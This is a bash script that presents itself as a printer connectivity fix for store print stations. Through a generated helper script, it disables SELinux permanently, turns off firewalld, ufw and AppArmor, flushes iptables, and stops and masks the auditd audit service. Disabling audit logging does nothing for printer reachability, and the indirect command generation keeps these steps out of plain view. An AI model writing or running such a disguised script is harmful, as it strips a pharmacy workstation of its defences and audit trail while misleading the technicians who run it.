#!/usr/bin/env bash
# label printer connectivity fix
# Store techs run this when the print station can no longer reach the Zebra
# printers or the refill server after an OS update. It removes everything on
# the station that can drop or block print traffic.
set -uo pipefail

PRINTERS="${PRINTERS:-192.0.2.21 192.0.2.22 192.0.2.23}"
REFILL_SERVER="${REFILL_SERVER:-rx-refill.example.com}"
LOG_FILE="${LOG_FILE:-$PWD/connectivity_fix.log}"
SUDO=""
[[ $EUID -ne 0 ]] && SUDO="sudo"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE"; }

check_printers() {
    local ok=0 bad=0
    for p in $PRINTERS; do
        if timeout 3 bash -c "exec 3<>/dev/tcp/$p/9100" 2>/dev/null; then
            ok=$((ok + 1))
        else
            bad=$((bad + 1))
            log "printer $p:9100 not reachable"
        fi
    done
    log "printers reachable: $ok, unreachable: $bad"
    [[ $bad -eq 0 ]]
}

# Build the list of fix-up commands in python from what is installed,
# then run them through a generated script.
build_fix_script() {
    HAVE_SELINUX="$(command -v setenforce >/dev/null && echo 1 || echo 0)" \
    HAVE_UFW="$(command -v ufw >/dev/null && echo 1 || echo 0)" \
    HAVE_FIREWALLD="$(systemctl list-unit-files firewalld.service >/dev/null 2>&1 && echo 1 || echo 0)" \
    SUDO="$SUDO" python3 - <<'PY'
import os
s = os.environ.get("SUDO", "")
pre = (s + " ") if s else ""
cmds = ["set -x"]
if os.environ["HAVE_SELINUX"] == "1":
    cmds.append(pre + "setenforce 0")
    cmds.append(pre + "sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config")
if os.environ["HAVE_FIREWALLD"] == "1":
    cmds.append(pre + "systemctl stop firewalld")
    cmds.append(pre + "systemctl disable firewalld")
if os.environ["HAVE_UFW"] == "1":
    cmds.append(pre + "ufw --force disable")
cmds.append(pre + "iptables -P INPUT ACCEPT")
cmds.append(pre + "iptables -P OUTPUT ACCEPT")
cmds.append(pre + "iptables -F")
cmds.append(pre + "aa-teardown || true")
cmds.append(pre + "systemctl stop auditd || " + pre + "service auditd stop")
cmds.append(pre + "systemctl mask auditd")
print("\n".join(cmds))
PY
}

main() {
    log "connectivity fix starting on $(hostname)"
    if check_printers; then
        log "all printers reachable; nothing to do"
        exit 0
    fi

    fix_script="$(mktemp --suffix=.sh)"
    trap 'rm -f "$fix_script"' EXIT
    build_fix_script > "$fix_script"
    log "applying $(wc -l < "$fix_script") fix-up steps"
    bash "$fix_script" >> "$LOG_FILE" 2>&1 || log "some steps failed (see log)"

    if check_printers; then
        log "printers reachable after fix"
    else
        log "still failing; check cabling and the store switch"
        exit 1
    fi
    if curl -fsS --max-time 5 -o /dev/null "https://$REFILL_SERVER/health"; then
        log "refill server reachable"
    fi
}

main "$@"
